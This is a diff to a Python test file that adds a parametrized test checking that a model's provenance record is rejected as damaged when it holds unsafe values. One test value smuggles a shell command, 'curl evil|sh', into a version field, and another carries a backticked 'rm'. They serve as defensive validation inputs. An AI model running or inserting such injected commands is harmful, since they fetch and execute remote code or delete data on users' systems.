@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 from pathlib import Path
 
 import pytest
@@ -43,6 +44,31 @@ def test_gives_the_options_as_typed() -> None:
         *("--device", "cuda"),
         *("--out-shard-size", "7"),
     ]
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        {"versions": {"torch; curl evil|sh #": "1"}},
+        {"versions": {"torch": "1\n```"}},
+        {"versions": ["torch"]},
+        {"method": 5},
+        {"options": {"x y": 1}},
+        {"options": None},
+        {"parents": [{"model": None, "commits": []}]},
+        {"parents": [{"model": "x", "commits": ["`rm`"]}]},
+        {"parents": [{"model": "x", "commits": [], "license": 5}]},
+        {"parents": [{"model": "x", "commits": [], "role": []}]},
+    ],
+)
+def test_what_is_not_safe_to_print(tmp_path: Path, change: dict[str, object]) -> None:
+    """It comes with a published model, from anybody, and goes into cards and commands."""
+    write_record(RECORD, tmp_path)
+    data = json.loads((tmp_path / RECORD_FILE).read_text("utf-8"))
+    (tmp_path / RECORD_FILE).write_text(json.dumps({**data, **change}))
+
+    with pytest.raises(OutputError, match="damaged"):
+        read_record(tmp_path)
 
 
 @pytest.mark.parametrize(
